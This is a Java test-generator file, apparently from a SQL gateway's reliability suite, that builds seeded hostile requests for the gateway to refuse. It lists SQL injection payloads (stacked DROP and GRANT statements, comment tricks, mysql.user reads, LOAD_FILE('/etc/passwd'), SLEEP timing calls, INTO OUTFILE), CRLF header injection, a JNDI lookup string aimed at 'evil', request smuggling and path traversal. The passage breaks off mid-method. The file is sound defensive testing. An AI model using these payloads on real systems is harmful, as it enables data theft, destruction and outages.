package io.sqlgate.reliability;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.sqlgate.hop.Sha256;
import io.sqlgate.hop.Texts;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.function.BiFunction;

/**
 * Hostile requests, generated from a seed: a corpus of attacks in every family, each varied by mutations
 * (letter case, whitespace and comments between words, routes, strategies, quoting, keys). Every request it
 * makes must be refused: none carries a statement the policy lets through on its own, so an accepted one is
 * a bypass, and the database is checked unchanged afterwards.
 */
public final class HostileCorpus {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String[] READ_ROUTES = {"/fetch_direct", "/fetch_random", "/fetch_customized", "/query"};
    private static final String[] ALL_ROUTES = {"/fetch_direct", "/fetch_random", "/fetch_customized", "/query", "/populate_tables"};
    private static final String[] TABLES = {"direct_table", "random_table", "customized_table"};

    /** Statements the policy accepts on their own: the part an attack hides behind. */
    private static final String[] HEADS = {
            "SELECT * FROM direct_table LIMIT 1",
            "SELECT id, column1 FROM random_table WHERE id = 1",
            "SELECT COUNT(*) FROM customized_table",
            "INSERT INTO direct_table (column1, column2) VALUES ('hostile', 'x')",
            "UPDATE random_table SET column2 = 'hostile' WHERE id = -1",
            "DELETE FROM customized_table WHERE id = -1",
    };

    /** What an attacker wants to run. */
    private static final String[] PAYLOADS = {
            "DROP TABLE direct_table", "DROP DATABASE main_db", "TRUNCATE TABLE random_table", "DELETE FROM customized_table",
            "UPDATE direct_table SET column1 = 'pwned'", "CREATE TABLE main_db.pwned (id INT)", "CREATE USER pwned IDENTIFIED BY 'pwned'",
            "GRANT ALL PRIVILEGES ON *.* TO 'sqlgate_app'@'127.0.0.1'", "SET GLOBAL read_only = 1", "SHUTDOWN", "KILL 1",
            "ALTER TABLE direct_table DROP COLUMN column2", "RENAME TABLE direct_table TO gone",
            "INSERT INTO direct_table (column1) VALUES ('stacked')", "SELECT SLEEP(5)", "SELECT * FROM mysql.user",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE direct_table", "DO SLEEP(5)", "FLUSH PRIVILEGES", "LOCK TABLES direct_table WRITE",
            "SET PASSWORD = PASSWORD('pwned')", "PREPARE s FROM 'DROP TABLE direct_table'", "EXECUTE s", "USE mysql",
            "CALL mysql.pwned()", "HANDLER direct_table OPEN", "INSTALL SONAME 'ha_pwned'", "XA START 'x'",
            "SELECT * FROM direct_table INTO OUTFILE '/tmp/pwned'", "SET @@session.sql_mode = ''",
    };

    /** The payloads that are refused on their own too: the body of requests whose attack lies elsewhere. */
    private static final String[] REFUSED_PAYLOADS = java.util.Arrays.stream(PAYLOADS)
            .filter(p -> !p.startsWith("INSERT INTO direct_table")).toArray(String[]::new);

    /** Clauses that, run by the database, change what a read or write does. */
    private static final String[] HIDDEN_CLAUSES = {
            "UNION SELECT user, password FROM mysql.user", "OR SLEEP(5)", "; DROP TABLE direct_table", "OR 1=1",
            ", (SELECT LOAD_FILE('/etc/passwd'))", "UNION SELECT table_name, table_schema FROM information_schema.tables",
            "AND BENCHMARK(100000000, MD5('x'))", "OR (SELECT COUNT(*) FROM mysql.user) > 0",
    };

    private static final String[] SYSTEM_TABLES = {
            "mysql.user", "mysql.db", "mysql.global_priv", "mysql.tables_priv", "information_schema.tables", "information_schema.columns",
            "information_schema.processlist", "information_schema.user_privileges", "performance_schema.threads",
            "performance_schema.accounts", "sys.sys_config", "mysql.innodb_table_stats",
    };

    private static final String[] DENIED_CALLS = {
            "SLEEP(5)", "BENCHMARK(100000000, MD5('x'))", "LOAD_FILE('/etc/passwd')", "GET_LOCK('x', 10)", "RELEASE_LOCK('x')",
            "IS_FREE_LOCK('x')", "IS_USED_LOCK('x')", "MASTER_POS_WAIT('x', 1)", "MASTER_GTID_WAIT('0-1-1', 5)", "USER()", "CURRENT_USER()",
            "SESSION_USER()", "SYSTEM_USER()", "VERSION()", "CONNECTION_ID()", "LAST_INSERT_ID()", "RELEASE_ALL_LOCKS()",
            "WSREP_SYNC_WAIT_UPTO_GTID('0-1-999999999', 420)", "WSREP_LAST_SEEN_GTID()", "DATABASE()", "SCHEMA()", "UUID()",
            "UUID_SHORT()", "NEXTVAL(mysql.user)", "LASTVAL(mysql.user)", "sys.version_major()", "mysql.anything()",
            "main_db.concat('a')", "`concat`('a')", "CURRENT_ROLE", "CURRENT_USER", "CONVERT(SLEEP(5), CHAR)",
    };

    public static final List<String> CATEGORIES = List.of("stacked statements", "comment tricks", "system schemas",
            "file and sleep functions", "DDL and DCL", "policy", "huge and nested bodies", "invalid UTF-8", "wrong content types",
            "forged or missing keys", "header injection", "paths and methods");

    private final Random random;
    private final String writerKey;
    private final String readerKey;

    private HostileCorpus(long seed, String writerKey, String readerKey) {
        this.random = new Random(seed);
        this.writerKey = writerKey;
        this.readerKey = readerKey;
    }

    /** {@code count} requests, the families in turn, the same ones for the same seed and keys. */
    public static List<HostileRequest> generate(long seed, int count, String writerKey, String readerKey) {
        HostileCorpus corpus = new HostileCorpus(seed, writerKey, readerKey);
        List<BiFunction<HostileCorpus, String, HostileRequest>> families = List.of(HostileCorpus::stacked,
                HostileCorpus::commentTrick, HostileCorpus::systemSchema, HostileCorpus::function, HostileCorpus::ddl,
                HostileCorpus::policy, HostileCorpus::huge, HostileCorpus::invalidUtf8, HostileCorpus::contentType,
                HostileCorpus::keys, HostileCorpus::headers, HostileCorpus::paths);
        List<HostileRequest> requests = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            int family = i % families.size();
            requests.add(families.get(family).apply(corpus, CATEGORIES.get(family)));
        }
        return requests;
    }

    // ---- the families ------------------------------------------------------------------------------------

    private HostileRequest stacked(String category) {
        String[] separators = {"; ", ";\n", " ;", ";;", "; -- x\n", ";/**/", "\n;\n", ";\t", ";\r\n"};
        String sql = pick(HEADS) + pick(separators) + pick(PAYLOADS) + (random.nextInt(4) == 0 ? ";" : "");
        return sqlRequest(category, mutate(sql), null);
    }

    private HostileRequest commentTrick(String category) {
        String head = "SELECT id, column1 FROM " + pick(TABLES) + " WHERE id = 1";
        String sql = switch (random.nextInt(13)) {
            case 0 -> head + " /*!" + pick("", "50000", "80000", "100000", "99999", "32302") + " " + pick(HIDDEN_CLAUSES) + " */";
            case 1 -> head + " /*M!" + pick("", "100000", "100500") + " " + pick(HIDDEN_CLAUSES) + " */";
            case 2 -> "SELECT /*+ " + pick("MAX_EXECUTION_TIME(1)", "SET_VAR(sql_mode='')", "SET_VAR(foreign_key_checks=0)",
                    "BKA(direct_table)") + " */ * FROM " + pick(TABLES) + " WHERE id = " + pick(DENIED_CALLS);
            case 3 -> pick(HEADS) + " -- " + pick("x", "", "comment") + "\n; " + pick(PAYLOADS);
            case 4 -> pick(HEADS) + " # " + pick("x", "'", "comment") + "\n" + pick("; " + pick(PAYLOADS), " OR SLEEP(5)");
            case 5 -> head + " --" + pick("1", "x", "-", "'") + " " + pick(HIDDEN_CLAUSES) + "\n";
            case 6 -> "SELECT id -- \r '\n, " + pick(DENIED_CALLS) + " -- '\nFROM " + pick(TABLES);
            case 7 -> "SELECT column1 FROM " + pick(TABLES) + " WHERE column1 = " + pick("'a\\'' ", "\"a\\\"\" ", "'a\\\\' ")
                    + pick(HIDDEN_CLAUSES) + " -- " + pick("'", "\"");
            case 8 -> "SELECT id " + pick("$$", "$a$", "q'[", "nq'[") + ", " + pick(DENIED_CALLS) + " -- "
                    + pick("$$", "$a$", "]'") + "\nFROM " + pick(TABLES);
            case 9 -> "SELECT " + pick("@@version", "@@hostname", "@@datadir", "@@global.secure_file_priv", "{fn USER()}",
                    "{fn DATABASE()}", "@@session.sql_mode") + " FROM " + pick(TABLES);
            case 10 -> head + " /* outer /* inner */ " + pick(HIDDEN_CLAUSES) + " */";
            // '//' is a comment to JSqlParser, two divisions to MariaDB; double quotes a name to one, a string to the other;
            // user variables carry values from one key to the next
            case 11 -> pick("SELECT 4 //* */ 2, (SELECT " + pick("user", "column1") + " FROM " + quoteQualified(pick(SYSTEM_TABLES))
                            + " LIMIT 1)\n FROM " + pick(TABLES) + " LIMIT 1",
                    "UPDATE " + pick(TABLES) + " SET column2 = 4 //*\n WHERE id = 1 -- */ 2",
                    "SELECT id FROM " + pick(TABLES) + " // , " + pick(DENIED_CALLS),
                    "SELECT @v := '" + pick("secret", "x") + "' FROM " + pick(TABLES), "SELECT @v", "SELECT @`v`, @@version",
                    "SELECT id FROM " + pick(TABLES) + " WHERE column1 = \"a\" OR " + pick(DENIED_CALLS),
                    "SELECT id FROM " + pick(TABLES) + " WHERE id = :id", "SELECT id || " + pick(DENIED_CALLS) + " FROM " + pick(TABLES),
                    "SELECT `weird``name`, " + pick(DENIED_CALLS) + " FROM " + pick(TABLES),
                    "SELECT 1abc, " + pick(DENIED_CALLS) + " FROM " + pick(TABLES));
            default -> head + " /*!" + pick(PAYLOADS) + "*/";
        };
        return sqlRequest(category, sql, null);
    }

    private HostileRequest systemSchema(String category) {
        String table = quoteQualified(pick(SYSTEM_TABLES));
        String good = pick(TABLES);
        String sql = switch (random.nextInt(8)) {
            case 0 -> "SELECT * FROM " + table;
            case 1 -> "SELECT * FROM " + good + " WHERE id IN (SELECT 1 FROM " + table + ")";
            case 2 -> "SELECT a.id FROM " + good + " a JOIN " + table + " b ON 1 = 1";
            case 3 -> "SELECT id, column1 FROM " + good + " UNION SELECT 1, 2 FROM " + table;
            case 4 -> "WITH " + good + " AS (SELECT * FROM " + table + ") SELECT * FROM " + good;
            case 5 -> "INSERT INTO " + good + " (column1) SELECT 1 FROM " + table;
            case 6 -> "UPDATE " + table + " SET plugin = 'x' WHERE 1 = 1";
            default -> "SELECT (SELECT COUNT(*) FROM " + table + ") FROM " + good;
        };
        return sqlRequest(category, mutate(sql), null);
    }

    private HostileRequest function(String category) {
        String call = pick(DENIED_CALLS);
        if (random.nextInt(3) == 0 && call.indexOf('(') > 0) {
            int paren = call.indexOf('(');
            String name = call.substring(0, paren);
            call = pick("`" + name.toLowerCase(Locale.ROOT) + "`", name.toLowerCase(Locale.ROOT), name) + call.substring(paren);
        }
        String table = pick(TABLES);
        String sql = switch (random.nextInt(10)) {
            case 0 -> "SELECT " + call;
            case 1 -> "SELECT * FROM " + table + " WHERE id = " + call;
            case 2 -> "SELECT * FROM " + table + " WHERE id IN (SELECT " + call + ")";
            case 3 -> "UPDATE " + table + " SET column1 = " + call + " WHERE id = 1";
            case 4 -> "INSERT INTO " + table + " (column1) VALUES (" + call + ")";
            case 5 -> "SELECT CONCAT('a', " + call + ") FROM " + table;
            case 6 -> "SELECT * FROM " + table + " ORDER BY " + call;
            case 7 -> "SELECT * FROM " + table + " INTO " + pick("OUTFILE '/tmp/x'", "DUMPFILE '/tmp/x'", "@leak");
            case 8 -> "LOAD DATA " + pick("", "LOCAL ") + "INFILE '/etc/passwd' INTO TABLE " + table;
            default -> "SELECT id FROM " + table + " GROUP BY id HAVING COUNT(*) > " + call;
        };
        return sqlRequest(category, mutate(sql), null);
    }

    private HostileRequest ddl(String category) {
        String sql = pick("DROP TABLE " + pick(TABLES), "DROP DATABASE main_db", "CREATE TABLE pwned (id INT)",
                "CREATE TABLE " + pick(TABLES) + "_copy AS SELECT * FROM " + pick(TABLES), "ALTER TABLE " + pick(TABLES) + " ADD COLUMN x INT",
                "TRUNCATE TABLE " + pick(TABLES), "RENAME TABLE " + pick(TABLES) + " TO gone", "CREATE INDEX i ON direct_table (column1)",
                "CREATE VIEW v AS SELECT * FROM mysql.user", "CREATE TRIGGER t BEFORE INSERT ON direct_table FOR EACH ROW SET NEW.column1 = 'x'",
                "CREATE PROCEDURE p() SELECT 1", "CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM direct_table",
                "GRANT ALL ON *.* TO 'sqlgate_app'@'%'", "REVOKE SELECT ON main_db.* FROM 'sqlgate_app'@'127.0.0.1'",
                "CREATE USER 'pwned'@'%' IDENTIFIED BY 'x'", "DROP USER 'sqlgate_monitor'@'127.0.0.1'", "SET PASSWORD FOR root = PASSWORD('x')",
                "SET GLOBAL max_connections = 1", "SET SESSION sql_log_bin = 0", "FLUSH TABLES WITH READ LOCK", "SHUTDOWN", "KILL CONNECTION 1",
                "LOCK TABLES direct_table WRITE", "UNLOCK TABLES", "START TRANSACTION", "COMMIT", "ROLLBACK", "SAVEPOINT s",
                "XA RECOVER", "SHOW GRANTS", "SHOW DATABASES", "SHOW PROCESSLIST", "DESCRIBE mysql.user", "EXPLAIN SELECT * FROM mysql.user",
                "ANALYZE TABLE direct_table", "OPTIMIZE TABLE direct_table", "REPAIR TABLE direct_table", "CHECKSUM TABLE direct_table",
                "INSTALL PLUGIN pwned SONAME 'pwned.so'", "UNINSTALL SONAME 'auth_ed25519'", "CHANGE MASTER TO MASTER_HOST = 'evil'",
                "PURGE BINARY LOGS BEFORE NOW()", "RESET MASTER", "SET ROLE ALL", "USE mysql", "HELP 'contents'",
                "REPLACE INTO mysql.user (user) VALUES ('pwned')", "MERGE INTO direct_table USING random_table ON (1 = 1) WHEN MATCHED THEN DELETE",
                "CALL mysql.rds_kill(1)", "DO SLEEP(5)", "HANDLER direct_table OPEN", "PREPARE s FROM 'SELECT 1'", "EXECUTE s");
        return sqlRequest(category, mutate(sql), null);
    }

    private HostileRequest policy(String category) {
        String table = pick(TABLES);
        switch (random.nextInt(8)) {
            case 0:
                return sqlRequest(category, mutate(pick("DELETE FROM " + table, "UPDATE " + table + " SET column1 = 'x'",
                        "DELETE FROM " + table + " ORDER BY id LIMIT 10", "UPDATE " + table + " SET column2 = column1 LIMIT 5")),
                        "/populate_tables", writerKey, "statement without a WHERE");
            case 1:
                return sqlRequest(category, mutate(pick(HEADS[3], HEADS[4], HEADS[5], "SELECT * FROM " + table + " WHERE id = 1 FOR UPDATE",
                        "SELECT * FROM " + table + " FOR SHARE")), pick("/query", "/populate_tables"), readerKey, "a reader key writing or locking");
            case 2:
                return sqlRequest(category, mutate(pick("SELECT * FROM " + table + " LIMIT 1", "SELECT COUNT(*) FROM " + table)),
                        "/populate_tables", writerKey, "a read on the write route");
            case 3:
                return sqlRequest(category, mutate(pick(HEADS[3], HEADS[4], HEADS[5])), pick(READ_ROUTES[0], READ_ROUTES[1], READ_ROUTES[2]),
                        writerKey, "a write on a read route");
            case 4:
                return sqlRequest(category, mutate("SELECT * FROM " + pick("secrets", "users", "main_db.secrets", "other_db." + table,
                        "`main_db`.`hidden`", table + "_archive", "sbtest.sbtest1", "`" + table + "`.`x`")), null);
            case 5:
                return sqlRequest(category, mutate("INSERT INTO " + pick("secrets", "sbtest.sbtest1", "other_db." + table)
                        + " (column1) VALUES ('x')"), "/populate_tables", writerKey, "a write outside the allow-list");
            case 6:
                return jsonRequest(category, "/query", writerKey, body(pick(HEADS[0], HEADS[1], HEADS[2]), null, pick("fastest", "primary",
                        "RANDOM", "Direct", "random ", "node3", "", "direct;drop", "customised", "DROP TABLE direct_table")),
                        "an unknown strategy", "application/json");
            default:
                return sqlRequest(category, mutate("SELECT * FROM " + table + " WHERE id = ? AND column1 = ?"), "/query", writerKey,
                        "parameters that are not scalars", paramsNotScalars());
        }
    }

    private HostileRequest huge(String category) {
        String route = pick(ALL_ROUTES);
        switch (random.nextInt(10)) {
            case 0: {
                String sql = "SELECT * FROM mysql.user WHERE user = '" + "x".repeat(8200 + random.nextInt(20_000)) + "'";
                return jsonRequest(category, route, writerKey, body(sql, null, null), "SQL over the length limit", "application/json");
            }
            case 1: {
                String sql = "DROP TABLE direct_table /* " + "y".repeat(70_000 + random.nextInt(200_000)) + " */";
                return jsonRequest(category, route, writerKey, body(sql, null, null), "body over the size limit", "application/json");
            }
            case 2: {
                int depth = 1_000 + random.nextInt(3_000);
                String sql = "SELECT " + "(".repeat(depth) + pick(DENIED_CALLS) + ")".repeat(depth) + " FROM direct_table";
                return jsonRequest(category, route, writerKey, body(sql, null, null), "SQL nested " + depth + " deep", "application/json");
            }
            case 3: {
                int depth = 20 + random.nextInt(40);
                StringBuilder sql = new StringBuilder("SELECT id FROM mysql.user");
                for (int i = 0; i < depth; i++) {
                    sql.insert(0, "SELECT id FROM direct_table WHERE id IN (").append(")");
                }
                return jsonRequest(category, route, writerKey, body(sql.toString(), null, null), depth + " nested subqueries", "application/json");
            }
            case 4: {
                int depth = 2_000 + random.nextInt(8_000);
                String json = "{\"sql\": \"SELECT * FROM direct_table WHERE id = ?\", \"params\": " + "[".repeat(depth) + "1" + "]".repeat(depth) + "}";
                return raw(category, route, writerKey, json.getBytes(StandardCharsets.UTF_8), "application/json", "JSON nested " + depth + " deep");
            }
            case 5: {
                ObjectNode node = JSON.createObjectNode().put("sql", "SELECT * FROM direct_table WHERE id IN (?)");
                ArrayNode params = node.putArray("params");
                for (int i = 0, n = 1_001 + random.nextInt(4_000); i < n; i++) {
                    params.add(i);
                }
                return jsonRequest(category, "/query", writerKey, node.toString(), "over 1000 parameters", "application/json");
            }
            case 6:
                return jsonRequest(category, route, writerKey, pick("{\"sql\": 12345}", "{\"sql\": [\"DROP TABLE direct_table\"]}",
                        "{\"sql\": {\"$ne\": null}}", "{\"sql\": true}", "{\"sql\": null}", "{}", "[]", "null", "\"DROP TABLE direct_table\"",
                        "{\"sql\": \"DROP TABLE direct_table\", \"sql\": \"SELECT SLEEP(5)\"}", "{\"SQL\": \"SELECT SLEEP(5)\"}", "",
                        "{\"sql\": \"SELECT SLEEP(5)\", \"params\": \"DROP\"}", "{\"sql\": \"SELECT SLEEP(1e999999999)\"}",
                        "{\"sql\": 1e999999999}", "{\"sql\": \"SELECT * FROM mysql.user WHERE id = ?\", \"params\": [1e999999]}",
                        "{\"sql\":\"DROP TABLE direct_table\"} trailing"),
                        "a body of the wrong shape", "application/json");
            case 7: {
                String sql = "SELECT * FROM direct_table WHERE column1 IN ("
                        + String.join(",", java.util.Collections.nCopies(1_000 + random.nextInt(2_000), "'x'")) + ") OR SLEEP(5)";
                return jsonRequest(category, route, writerKey, body(sql, null, null), "a long list then a denied call", "application/json");
            }
            case 8: {
                String json = "{\"sql\": \"SELECT * FROM direct_table WHERE id = ?\", \"params\": [\"" + "z".repeat(70_000) + "\"]}";
                return raw(category, route, writerKey, json.getBytes(StandardCharsets.UTF_8), "application/json", "a parameter over the size limit");
            }
            default: {
                StringBuilder sql = new StringBuilder("SELECT * FROM direct_table WHERE id = 1");
                for (int i = 0, n = 300 + random.nextInt(500); i < n; i++) {
                    sql.append(" OR id = ").append(i);
                }
                sql.append(" OR LOAD_FILE('/etc/passwd') IS NOT NULL");
                return jsonRequest(category, route, writerKey, body(sql.toString(), null, null), "a long WHERE then a denied call", "application/json");
            }
        }
    }

    private HostileRequest invalidUtf8(String category) {
        byte[][] bad = {{(byte) 0xff}, {(byte) 0xc0, (byte) 0xaf}, {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, {(byte) 0xe2, (byte) 0x82},
                {(byte) 0x80}, {(byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xfe, (byte) 0xff}, {(byte) 0xc3}};
        String route = pick(ALL_ROUTES);
        switch (random.nextInt(5)) {
            case 0:
            case 1: {
                String evil = pick("SELECT * FROM mysql.user WHERE user = '", "DROP TABLE direct_table /* ", "SELECT SLEEP(5) /* ",
                        "SELECT * FROM direct_table WHERE column1 = SLEEP(5) OR column1 = '");
                String close = evil.endsWith("'") ? "'" : " */";
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                out.writeBytes(("{\"sql\": \"" + evil).getBytes(StandardCharsets.UTF_8));
                out.writeBytes(bad[random.nextInt(bad.length)]);
                out.writeBytes((close + "\"}").getBytes(StandardCharsets.UTF_8));
                return raw(category, route, writerKey, out.toByteArray(), "application/json", "invalid UTF-8 inside the SQL");
            }
            case 2: {
                byte[] junk = new byte[1 + random.nextInt(2_000)];
                random.nextBytes(junk);
                return raw(category, route, writerKey, junk, "application/json", "random bytes as the body");
            }
            case 3: {
                String json = "{\"sql\": \"" + pick("SELECT * FROM mysql.user", "DROP TABLE direct_table", "SELECT SLEEP(5)") + "\"}";
                byte[] encoded = json.getBytes(pick(StandardCharsets.UTF_16BE, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16));
                return raw(category, route, writerKey, encoded, "application/json", "hostile SQL in UTF-16");
            }
            default: {
                String json = "{\"sql\": \"SELECT * FROM " + pick("mysql.user", "direct_table WHERE id = SLEEP(5)") + " "
                        + pick("\\ud800", "\\udfff", "\\ud800\\ud800", "\\u0000", "\\uffff") + "\"}";
                return raw(category, route, writerKey, json.getBytes(StandardCharsets.UTF_8), "application/json", "lone surrogates or NUL escaped in JSON");
            }
        }
    }

    private HostileRequest contentType(String category) {
        String type = pick("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
                "text/html", "application/octet-stream", "application/json5", "text/json", "application/javascript", "image/png",
                "application/jsonp", "json", "application", "");
        String sql = pick(REFUSED_PAYLOADS);
        byte[] payload = pick(("{\"sql\": \"" + sql + "\"}").getBytes(StandardCharsets.UTF_8), ("sql=" + sql).getBytes(StandardCharsets.UTF_8),
                ("<sql>" + sql + "</sql>").getBytes(StandardCharsets.UTF_8));
        HostileRequest.Builder builder = new HostileRequest.Builder().path(pick(ALL_ROUTES)).header("Authorization", "Bearer " + writerKey)
                .body(payload);
        if (!type.isEmpty()) {
            builder.header("Content-Type", type);
        }
        return builder.build(category, "Content-Type '" + type + "'");
    }

    private HostileRequest keys(String category) {
        String sql = pick("SELECT * FROM direct_table LIMIT 1", "INSERT INTO direct_table (column1, column2) VALUES ('forged', 'x')");
        String route = sql.startsWith("INSERT") ? "/populate_tables" : pick(READ_ROUTES);
        HostileRequest.Builder builder = new HostileRequest.Builder().path(route);
        String description;
        switch (random.nextInt(14)) {
            case 0 -> description = "no Authorization header";
            case 1 -> {
                builder.header("Authorization", "Bearer");
                description = "an empty bearer";
            }
            case 2 -> {
                builder.header("Authorization", "Bearer " + randomKey());
                description = "a made-up key";
            }
            case 3 -> {
                builder.header("Authorization", "Bearer " + writerKey + pick("x", "0", "=", "%00"));
                description = "the writer key with a suffix";
            }
            case 4 -> {
                builder.header("Authorization", "Bearer " + writerKey.substring(0, writerKey.length() - 1));
                description = "the writer key cut short";
            }
            case 5 -> {
                builder.header("Authorization", "Bearer " + writerKey.toUpperCase(Locale.ROOT));
                description = "the writer key in upper case";
            }
            case 6 -> {
                builder.header("Authorization", "Basic " + Base64.getEncoder().encodeToString(("reliability-writer:" + writerKey)
                        .getBytes(StandardCharsets.UTF_8)));
                description = "Basic authentication";
            }
            case 7 -> {
                builder.header("Authorization", pick("Token ", "ApiKey ", "Digest ", "") + writerKey);
                description = "another scheme";
            }
            case 8 -> {
                builder.header("Authorization", "Bearer " + Sha256.hex(writerKey));
                description = "the stored hash of the key as the key";
            }
            case 9 -> {
                builder.header(pick("X-Api-Key", "Api-Key", "X-Authorization"), writerKey);
                description = "the key in another header";
            }
            case 10 -> {
                builder.path(route + "?api_key=" + writerKey);
                description = "the key in the query string";
            }
            case 11 -> {
                builder.header("X-Hop-Timestamp", Long.toString(1_764_000_000_000L + random.nextInt(100_000_000))).header("X-Hop-Signature", randomKey())
                        .header("X-Request-Id", "forged-hop");
                description = "forged hop headers instead of a key";
            }
            case 12 -> {
                builder.header("Authorization", "Bearer " + randomKey()).header("Authorization", "Bearer " + randomKey());
                description = "two made-up keys";
            }
            default -> {
                builder.header("Authorization", "Bearer " + "k".repeat(2_000 + random.nextInt(5_000)));
                description = "a very long key";
            }
        }
        if (route.equals("/populate_tables") && random.nextBoolean()) {
            builder.header("Authorization", "Bearer " + readerKey);
            description = "a reader key writing (" + description + ")";
        }
        return builder.json(body(sql, null, null)).build(category, description);
    }

    private HostileRequest headers(String category) {
        // Each is a request that must be refused anyway (no valid key): the headers must not break that,
        // cause a 5xx or be reflected.
        HostileRequest.Builder builder = new HostileRequest.Builder().path(pick(ALL_ROUTES))
                .header("Authorization", "Bearer " + randomKey());
        String description;
        switch (random.nextInt(14)) {
            case 0 -> {
                builder.rawHeader(bytes("X-Request-Id: abc\rSet-Cookie: injected=1"));
                description = "a bare CR in a header value";
            }
            case 1 -> {
                builder.rawHeader(bytes("X-Request-Id: abc\nSet-Cookie: injected=1"));
                description = "a bare LF in a header value";
            }
            case 2 -> {
                builder.rawHeader(bytes("X-Request-Id: abc\u0000def"));
                description = "a NUL in a header value";
            }
            case 3 -> {
                builder.rawHeader(bytes("X-Request-Id: abc\r\n Set-Cookie: injected=1"));
                description = "an obsolete folded header";
            }
            case 4 -> {
                builder.header("X-Request-Id", pick("abc%0d%0aSet-Cookie:%20injected=1", "abc\\r\\nSet-Cookie: injected=1",
                        "\"}{\"injected\":true", "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil/x}"));
                description = "an injection attempt in the request id";
            }
            case 5 -> {
                builder.rawHeader("X-Request-Id: \u00e9\u20ac\ud83d\ude00".getBytes(StandardCharsets.UTF_8));
                description = "non-ASCII bytes in a header value";
            }
            case 6 -> {
                builder.header("X-Padding", "p".repeat(9_000 + random.nextInt(30_000)));
                description = "an oversized header";
            }
            case 7 -> {
                for (int i = 0, n = 100 + random.nextInt(400); i < n; i++) {
                    builder.header("X-H" + i, "v".repeat(random.nextInt(40)));
                }
                description = "hundreds of headers";
            }
            case 8 -> {
                builder.rawHeader(bytes(pick("X-Request-Id abc", "X Request Id: abc", "X-Request-Id : abc", ": no-name", "X-\u0001: ctl")));
                description = "a malformed header line";
            }
            case 9 -> {
                builder.header("Content-Length", Integer.toString(random.nextInt(5)));
                description = "two Content-Length headers";
            }
            case 10 -> {
                builder.header("Transfer-Encoding", pick("chunked", "xchunked", "chunked, identity", " chunked"));
                description = "Transfer-Encoding with Content-Length";
                return builder.json("zz\r\n{\"sql\": \"DROP TABLE direct_table\"}\r\n0\r\n\r\n").build(category, description);
            }
            case 11 -> {
                builder.header("X-Request-Id", "r".repeat(65 + random.nextInt(4_000)));
                description = "an overlong request id";
            }
            case 12 -> {
                builder.header("Host", pick("evil.example", "127.0.0.1:1", "localhost\u0000"));
                description = "a second Host header";
            }
            default -> {
                builder.header("Content-Type", "application/json").header("Content-Type", "text/plain");
                description = "two Content-Type headers";
            }
        }
        return builder.json(body(pick(REFUSED_PAYLOADS), null, null)).build(category, description);
    }

    private HostileRequest paths(String category) {
        String json = body(pick(REFUSED_PAYLOADS), null, null);
        HostileRequest.Builder builder = new HostileRequest.Builder().header("Authorization", "Bearer " + writerKey);
        String description;
        switch (random.nextInt(8)) {
            case 0 -> {
                builder.method(pick("GET", "PUT", "DELETE", "PATCH", "TRACE")).path(pick(ALL_ROUTES));
                description = "a method the route does not take";
            }
            case 1 -> {
                builder.path(pick("/admin", "/query/", "/QUERY", "/fetch", "/populate", "/sql", "/api/query", "/trusted/query",
                        "/fetch_direct.json", "/query.php"));
                description = "an unknown route";
            }
            case 2 -> {
                builder.path(pick("/query/../populate_tables", "/%2e%2e/query", "/fetch_direct/..%2f..%2fetc%2fpasswd", "/..;/query",
                        "/query%00", "/query;jsessionid=x", "/%71uery"));
                description = "path traversal and encoding";
            }
            case 3 -> {
                builder.path(pick(ALL_ROUTES) + "?sql=" + pick("DROP%20TABLE%20direct_table", "SELECT%20SLEEP(5)"));
                description = "SQL in the query string";
            }
            case 4 -> {
                builder.requestLine(pick("POST /query HTTP/1.1 extra", "POST  /query HTTP/1.1", "POST /query HTTP/9.9",
                        "POST /query", "\u0016\u0003\u0001 hello", "POST http://evil.example/query HTTP/1.1"));
                description = "a malformed request line";
            }
            case 5 -> {
                builder.path("/query?" + "q".repeat(5_000 + random.nextInt(10_000)));
                description = "an oversized URI";
            }
            case 6 -> {
                builder.method(pick("GET", "POST")).path(pick("/health/../query", "/prometheus/../populate_tables", "/openapi.yml/../query"));
                description = "a public path used to reach a route";
            }
            default -> {
                builder.method(pick("CONNECT", "PROPFIND", "FOO", "post")).path(pick(ALL_ROUTES));
                description = "an odd method";
            }
        }
        return builder.json(json).build(category, description);
    }

    // ---- building blocks -----------------------------------------------------------------------------------

    private HostileRequest sqlRequest(String category, String sql, String description) {
        boolean write = sql.trim().toUpperCase(Locale.ROOT).matches("^(INSERT|UPDATE|DELETE|REPLACE).*");
        String route = random.nextInt(5) == 0 ? pick(ALL_ROUTES) : write ? pick("/populate_tables", "/query") : pick(READ_ROUTES);
        return sqlRequest(category, sql, route, writerKey, description);
    }

    private HostileRequest sqlRequest(String category, String sql, String route, String key, String description) {
        return sqlRequest(category, sql, route, key, description, null);
    }

    private HostileRequest sqlRequest(String category, String sql, String route, String key, String description, ArrayNode params) {
        String strategy = route.equals("/query") ? pick("direct", "random", "customized", null) : null;
        String what = (description == null ? "" : description + ": ") + Texts.clip(sql, 160);
        return jsonRequest(category, route, key, body(sql, params, strategy), what, "application/json");
    }

    private HostileRequest jsonRequest(String category, String route, String key, String json, String description, String contentType) {
        return raw(category, route, key, json.getBytes(StandardCharsets.UTF_8), contentType, description);
    }

    private HostileRequest raw(String category, String route, String key, byte[] body, String contentType, String description) {
        return new HostileRequest.Builder().path(route).header("Authorization", "Bearer " + key).header("Content-Type", contentType)
                .body(body).build(category, route + " " + description);
    }

    private static String body(String sql, ArrayNode params, String strategy) {
        ObjectNode node = JSON.createObjectNode().put("sql", sql);
        if (params != null) {
            node.set("params", params);
        }
        if (strategy != null) {
            node.put("strategy", strategy);
        }
        return node.toString();
    }

    private ArrayNode paramsNotScalars() {
        ArrayNode params = JSON.createArrayNode();
        params.add(1);
        switch (random.nextInt(3)) {
            case 0 -> params.addObject().put("$gt", "");
